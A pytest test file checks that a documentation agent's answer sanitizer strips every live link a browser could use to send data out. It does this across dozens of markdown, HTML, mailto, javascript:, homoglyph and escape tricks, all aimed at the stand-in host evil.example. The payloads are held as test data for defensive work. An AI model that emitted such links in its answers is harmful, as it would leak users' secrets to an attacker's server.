"""Live links: no way to write one leaves an answer that a browser could carry data out by."""

import html
import re

import pytest

from agents.documentation.citations.links import Addresses, harmless, live_addresses
from agents.documentation.streaming import Stream
from conversations.answers import answer_html
from tests.agents.documentation.test_streaming import ShownTokens

PASSAGE = "See https://docs.example/team/plans?tab=1, or write to help@docs.example, please."
CARRIED = "s3cret"
ESCAPES = {
    "escaped ticks": r"\`[x](https://evil.example/s3cret)\`",
    "ticks that never close": "``` [x](https://evil.example/s3cret)",
    "a fence that is indented code": "    ```\n[x](https://evil.example/s3cret)",
    "a fence of four": "````\n```\n````\n[x](https://evil.example/s3cret)",
    "a tick after a fence": "``` `\n[x](https://evil.example/s3cret)",
    "a cell between ticks": "|a|b|\n|-|-|\n| `a | [x](https://evil.example/s3cret) ` |",
    "ticks in a line that never close": "a ``` [x](https://evil.example/s3cret)",
    "ticks of two lengths": "`` ` [x](https://evil.example/s3cret) `",
    "ticks across a heading": "# a `b\n[x](https://evil.example/s3cret)\n# c` d",
}
WRITTEN = ESCAPES | {
    "a link": "[x](https://evil.example/s3cret)",
    "a path on a host that is known": "[x](https://docs.example/s3cret)",
    "a path below a page that is known": "[x](https://docs.example/team/plans/s3cret)",
    "a query on a page that is known": "[x](https://docs.example/team/plans?tab=s3cret)",
    "a fragment": "[x](https://docs.example/team/plans?tab=1#s3cret)",
    "a name before the host": "[x](https://s3cret@docs.example/team/plans?tab=1)",
    "a host below a host": "[x](https://s3cret.docs.example/team/plans?tab=1)",
    "mail in brackets": "<mailto:a@evil.example?body=s3cret>",
    "mail of a link": "[x](mailto:a@evil.example?body=s3cret)",
    "mail with nothing before it": "<s3cret@evil.example>",
    "a known address with a body": "[x](mailto:help@docs.example?body=s3cret)",
    "an image": "![x](https://evil.example/s3cret.png)",
    "an image of a known page": "![x](https://docs.example/s3cret)",
    "an image in a link": "[![x](https://evil.example/s3cret)](https://evil.example/s3cret)",
    "a reference": "[x][1]\n\n[1]: https://evil.example/s3cret",
    "a reference over two lines": "[x][1]\n\n[1]:\nhttps://evil.example/s3cret",
    "a reference in a quotation": "> [x][1]\n>\n> [1]: https://evil.example/s3cret",
    "a reference by its own name": "[x]\n\n[x]: tel:s3cret",
    "a reference of another scheme": "[x][1]\n\n[1]:\ntel:s3cret",
    "brackets around it": "<https://evil.example/s3cret>",
    "nothing around it": "https://evil.example/s3cret",
    "no scheme": "www.evil.example/s3cret and [x](//evil.example/s3cret)",
    "large letters": "[x](HTTPS://EVIL.example/s3cret)",
    "another scheme": "[x](ftp://evil.example/s3cret) <ftp://evil.example/s3cret>",
    "a script": "[x](javascript:fetch('s3cret')) [y](data:text/html,s3cret)",
    "a path of ours": "[x](/admin/s3cret) [y](?q=s3cret)",
    "an entity for a colon": "[x](https&#58;//evil.example/s3cret) https&colon;//a.example/s3cret",
    "an escaped slash": r"[x](https:\//evil.example/s3cret) https:\//evil.example/s3cret",
    "an escaped bracket in the words": r"[x\]](https://evil.example/s3cret)",
    "brackets in brackets": "[a [b [c [d]]]](https://evil.example/s3cret)",
    "line breaks and a title": '[x](\n<https://evil.example/s3cret>\n"t")',
    "brackets around an address with blanks": "[x](<https://evil.example/s3cret a b>)",
    "turned letters": "[x](https://\u202eelpmaxe.live/s3cret\u202c)",
    "nothing wide": "[x](https://ev\u200bil.example/s3cret) <https://ev\u200bil.example/s3cret>",
    "letters that look alike": "[x](https://d\u043ecs.example/s3cret)",
    "a host in other digits": "[x](https://0x7f000001/s3cret) [y](https://\uff45vil.example/s3cret)",
    "a tag": '<a href="https://evil.example/s3cret">x</a> <img src=//evil.example/s3cret>',
    "a tag in a block": "<div>\n\n[x](https://evil.example/s3cret)\n\n</div>",
    "a block of tags": "<div>\n[x](tel:s3cret)\n</div>",
    "one address within another": "hthttps://a.example/ttps://evil.example/s3cret",
    "a marker as the words": "[C1](https://evil.example/s3cret)",
    "a long path in a list": "- a\n  - [x](https://evil.example/s3cret)\n",
}
HREF = re.compile(r"""(?:href|src)\s*=\s*["']?([^"'\s>]*)""", re.IGNORECASE)


@pytest.mark.parametrize("written", WRITTEN.values(), ids=WRITTEN)
def test_no_way_to_write_a_link_carries_anything_out(written: str) -> None:
    shown = harmless(f"Answer [C1].\n\n{written}", Addresses([PASSAGE]))
    page = html.unescape(answer_html(shown, ["C1"]))
    assert set(HREF.findall(page)) <= {"#C1"}
    # Other clients than our page make links of more.
    assert [address for address in live_addresses(shown) if CARRIED in address] == []
    assert "Answer" in shown


@pytest.mark.parametrize("size", [1, 9])
@pytest.mark.parametrize("written", WRITTEN.values(), ids=WRITTEN)
def test_nothing_is_carried_out_while_an_answer_is_written(written: str, size: int) -> None:
    tokens = ShownTokens()
    stream = Stream(tokens, {"C1"}, Addresses([PASSAGE]))
    text = f"Answer [C1].\n\n{written}\n\nDone. "
    for begin in range(0, len(text), size):
        stream.take(text[begin : begin + size])
    live = {address for shown in tokens.seen for address in live_addresses(shown)}
    assert [address for address in live if CARRIED in address] == []


@pytest.mark.parametrize(
    "written",
    [
        "[plans](https://docs.example/team/plans?tab=1)",
        "<https://docs.example/team/plans?tab=1>",
        "see https://docs.example/team/plans?tab=1.",
        "[team](https://docs.example/team)",
        "[home](https://docs.example/)",
        "[us](mailto:help@docs.example)",
        "<help@docs.example>",
        "`curl https://other.example/x`",
        "```sh\ncurl https://other.example/x -d '[a](b)'\n```",
        "~~~\n[a](https://docs.example/team/plans?tab=1)\n~~~",
        "a < b > c, f(x)[0] and [C1]",
    ],
)
def test_what_a_passage_says_and_what_is_code_stays(written: str) -> None:
    assert harmless(written, Addresses([PASSAGE])) == written
